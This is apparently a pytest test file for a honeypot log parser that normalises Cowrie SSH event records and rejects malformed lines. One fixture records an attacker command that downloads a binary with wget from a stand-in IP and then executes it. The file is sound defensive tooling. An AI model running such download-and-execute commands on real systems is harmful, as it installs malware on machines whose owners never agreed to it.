"""Cowrie JSON lines: every documented eventid, version drift, and rejections."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from node.event import FORMAT_COWRIE, Event, LineRejected, event_key
from node.ingest import parse_line

HEX32 = "92674389fa1e47a27ddd8d9b63ecd42b"
HEX64 = "3f2c1b0a9e8d7c6b5a493827161504f3e2d1c0b9a8978675645342312f1e0d0c"
_COMMON = '"session": "c0ffee12ab34", "src_ip": "192.0.2.80", "sensor": "hp-east"'


def _us(text: str) -> int:
    moment = datetime.fromisoformat(text)
    return (moment - datetime(1970, 1, 1, tzinfo=UTC)) // datetime.resolution


def _parse(line: str | bytes) -> Event:
    return parse_line(line.encode() if isinstance(line, str) else line)


def _rejection(raw: bytes) -> str:
    with pytest.raises(LineRejected) as info:
        parse_line(raw)
    return info.value.reason


# (line, time, kind, fields without session)
_EVENTS: list[tuple[str, str, str, dict[str, str]]] = [
    (
        '{"eventid": "cowrie.session.connect", "src_ip": "192.0.2.80", "src_port": 40112, '
        '"dst_ip": "10.0.0.4", "dst_port": 22, "session": "c0ffee12ab34", "protocol": "ssh", '
        '"sensor": "hp-east", "timestamp": "2026-03-02T10:00:00.000001Z", '
        '"message": "New connection"}',
        "2026-03-02T10:00:00.000001+00:00", "session_connect",
        {"src_port": "40112", "dst_ip": "10.0.0.4", "dst_port": "22"},
    ),
    (
        '{"eventid": "cowrie.client.version", "version": "SSH-2.0-libssh2_1.10.0", '
        f'{_COMMON}, "timestamp": "2026-03-02T10:00:00.2Z"}}',
        "2026-03-02T10:00:00.200000+00:00", "client_version",
        {"ssh_version": "SSH-2.0-libssh2_1.10.0"},
    ),
    (
        f'{{"eventid": "cowrie.client.kex", "hassh": "{HEX32}", "hasshAlgorithms": '
        '"curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr,aes256-ctr;hmac-sha2-256;none", '
        '"kexAlgs": ["curve25519-sha256"], "keyAlgs": ["ssh-ed25519"], "encCS": ["aes128-ctr"], '
        '"macCS": ["hmac-sha2-256"], "compCS": ["none"], "langCS": [""], '
        f'{_COMMON}, "timestamp": "2026-03-02T10:00:00.3Z"}}',
        "2026-03-02T10:00:00.300000+00:00", "client_kex",
        {"hassh": HEX32, "hassh_algorithms":
         "curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr,aes256-ctr;hmac-sha2-256;none"},
    ),
    (
        '{"eventid": "cowrie.login.failed", "username": "root", "password": "1234", '
        f'{_COMMON}, "timestamp": "2026-03-02T10:00:01Z"}}',
        "2026-03-02T10:00:01+00:00", "login_failed", {"username": "root", "password": "1234"},
    ),
    (
        '{"eventid": "cowrie.login.success", "username": "root", "password": "root", '
        f'{_COMMON}, "timestamp": "2026-03-02T10:00:02Z"}}',
        "2026-03-02T10:00:02+00:00", "login_success", {"username": "root", "password": "root"},
    ),
    (
        '{"eventid": "cowrie.command.input", '
        '"input": "cd /tmp; wget http://203.0.113.80/x86 -O .x; chmod +x .x; ./.x", '
        f'{_COMMON}, "timestamp": "2026-03-02T10:00:03Z"}}',
        "2026-03-02T10:00:03+00:00", "command",
        {"cmd": "cd /tmp; wget http://203.0.113.80/x86 -O .x; chmod +x .x; ./.x"},
    ),
    (
        '{"eventid": "cowrie.command.failed", "input": "foo --bar", '
        f'{_COMMON}, "timestamp": "2026-03-02T10:00:03.5Z"}}',
        "2026-03-02T10:00:03.500000+00:00", "command_failed", {"cmd": "foo --bar"},
    ),
    (
        '{"eventid": "cowrie.session.file_download", "url": "http://203.0.113.80/x86", '
        f'"shasum": "{HEX64}", "outfile": "var/lib/cowrie/downloads/{HEX64}", "destfile": ".x", '
        f'{_COMMON}, "timestamp": "2026-03-02T10:00:04Z"}}',
        "2026-03-02T10:00:04+00:00", "file_download",
        {"url": "http://203.0.113.80/x86", "shasum": HEX64,
         "outfile": f"var/lib/cowrie/downloads/{HEX64}", "destfile": ".x"},
    ),
    (
        f'{{"eventid": "cowrie.session.file_upload", "shasum": "{HEX64}", "filename": "a.sh", '
        f'"outfile": "var/lib/cowrie/downloads/{HEX64}", '
        f'{_COMMON}, "timestamp": "2026-03-02T10:00:04.5Z"}}',
        "2026-03-02T10:00:04.500000+00:00", "file_upload",
        {"shasum": HEX64, "filename": "a.sh", "outfile": f"var/lib/cowrie/downloads/{HEX64}"},
    ),
    (
        '{"eventid": "cowrie.direct-tcpip.request", "dst_ip": "198.51.100.200", "dst_port": 443, '
        f'"src_port": 5555, {_COMMON}, "timestamp": "2026-03-02T10:00:05Z"}}',
        "2026-03-02T10:00:05+00:00", "direct_tcpip",
        {"dst_ip": "198.51.100.200", "dst_port": "443"},
    ),
    (
        f'{{"eventid": "cowrie.session.closed", "duration": 6.4, {_COMMON}, '
        '"timestamp": "2026-03-02T10:00:06.4Z"}',
        "2026-03-02T10:00:06.400000+00:00", "session_closed", {"duration": "6.4"},
    ),
    (
        '{"eventid": "cowrie.log.closed", "ttylog": "var/lib/cowrie/tty/abc", "size": 120, '
        f'{_COMMON}, "timestamp": "2026-03-02T10:00:06.5Z", '
        '"message": ["Closing TTY Log: ", "var/lib/cowrie/tty/abc"]}',
        "2026-03-02T10:00:06.500000+00:00", "log_closed", {},
    ),
    (
        '{"eventid": "cowrie.client.fingerprint-x.new", "fingerprint": "aa:bb", '
        f'{_COMMON}, "timestamp": "2026-03-02T10:00:07Z", "message": []}}',
        "2026-03-02T10:00:07+00:00", "client_fingerprint_x_new", {},
    ),
]


@pytest.mark.parametrize(("line", "when", "kind", "fields"), _EVENTS, ids=[e[2] for e in _EVENTS])
def test_every_documented_cowrie_event_is_normalised(
    line: str, when: str, kind: str, fields: dict[str, str],
) -> None:
    event = _parse(line)
    assert event.time_us == _us(when)
    assert (event.sensor, event.service, event.kind, event.src_ip) == (
        "hp-east", "ssh", kind, "192.0.2.80")
    assert event.fields == {"session": "c0ffee12ab34", **fields}
    assert event.source_format == FORMAT_COWRIE
    assert event.key == event_key(line.encode(), event.time_us)


def _obj(**overrides: Any) -> bytes:
    obj: dict[str, Any] = {
        "eventid": "cowrie.login.failed", "username": "root", "password": "1234",
        "session": "c0ffee12ab34", "src_ip": "192.0.2.80", "sensor": "hp-east",
        "timestamp": "2026-03-02T10:00:01Z",
    }
    for name, value in overrides.items():
        if value is _DROP:
            obj.pop(name, None)
        else:
            obj[name] = value
    return json.dumps(obj).encode()


_DROP = object()


def test_message_as_a_list_or_string_does_not_matter() -> None:
    as_list = _parse(_obj(message=["login attempt [root/1234] failed"]))
    as_text = _parse(_obj(message="login attempt [root/1234] failed"))
    assert as_list.fields == as_text.fields == {
        "session": "c0ffee12ab34", "username": "root", "password": "1234"}


def test_newer_version_fields_and_unknown_fields_are_tolerated() -> None:
    event = _parse(_obj(src_port=40112, dst_ip="10.0.0.4", dst_port=22, protocol="ssh",
                        uuid="0d7c4e1a-5c1e-4b71-9f0e-7c8d2a1b3c4d", new_thing={"a": [1]}))
    assert event.kind == "login_failed"
    assert event.fields == {"session": "c0ffee12ab34", "username": "root", "password": "1234"}


def test_protocol_names_the_service_and_defaults_to_ssh() -> None:
    assert _parse(_obj(protocol="telnet")).service == "telnet"
    assert _parse(_obj(protocol="")).service == "ssh"
    assert _parse(_obj(protocol=None)).service == "ssh"
    assert _parse(_obj()).service == "ssh"


def test_missing_sensor_and_session_are_tolerated() -> None:
    event = _parse(_obj(sensor=_DROP, session=_DROP))
    assert event.sensor == ""
    assert "session" not in event.fields


def test_non_string_field_values_other_than_numbers_are_dropped() -> None:
    event = _parse(_obj(username=["root"], password=True))
    assert event.fields == {"session": "c0ffee12ab34"}


def test_numeric_values_become_decimal_strings() -> None:
    event = _parse(_obj(eventid="cowrie.session.closed", duration=12))
    assert event.fields["duration"] == "12"


@pytest.mark.parametrize(("src", "canonical"), [
    ("2001:DB8::0:80", "2001:db8::80"),
    ("::ffff:192.0.2.80", "192.0.2.80"),
    ("192.0.2.80:40112", "192.0.2.80"),
])
def test_cowrie_src_ip_is_canonicalised(src: str, canonical: str) -> None:
    assert _parse(_obj(src_ip=src)).src_ip == canonical


def test_timestamp_offsets_other_than_z_are_converted_to_utc() -> None:
    event = _parse(_obj(timestamp="2026-03-02T11:00:01.25+01:00"))
    assert event.time_us == _us("2026-03-02T10:00:01.250000+00:00")


def test_same_line_same_key_and_any_change_a_different_key() -> None:
    assert _parse(_obj()).key == _parse(_obj()).key
    keys = {_parse(e[0]).key for e in _EVENTS}
    keys.add(_parse(_obj(username="admin")).key)
    assert len(keys) == len(_EVENTS) + 1


@pytest.mark.parametrize(("raw", "reason"), [
    (_obj(timestamp=_DROP), "bad_json_shape"),
    (_obj(timestamp=1772445601), "bad_json_shape"),
    (_obj(src_ip=_DROP), "bad_json_shape"),
    (_obj(src_ip=None), "bad_json_shape"),
    (_obj(src_ip=3221226064), "bad_json_shape"),
    (_obj(src_ip="192.0.2.300"), "invalid_ip"),
    (_obj(src_ip="attacker.example"), "invalid_ip"),
    (_obj(src_ip=""), "invalid_ip"),
    (_obj(timestamp="2026-03-02T10:00:01"), "bad_timestamp"),
    (_obj(timestamp="1772445601"), "bad_timestamp"),
    (_obj(timestamp="2026-03-02T10:00:61Z"), "bad_timestamp"),
    (_obj(timestamp="Mon Mar  2 10:00:01 2026"), "bad_timestamp"),
    (_obj(eventid="session.connect"), "bad_json_shape"),  # not cowrie, not collector
    (_obj(eventid=42), "bad_json_shape"),
    (_obj()[:-2], "bad_json"),
    (_obj().replace(b"root", b"r\xc3\x28t", 1), "invalid_utf8"),
    (_obj().replace(b"root", b"r\x00t", 1), "nul_byte"),
])
def test_bad_cowrie_lines_are_rejected_with_a_reason(raw: bytes, reason: str) -> None:
    assert _rejection(raw) == reason
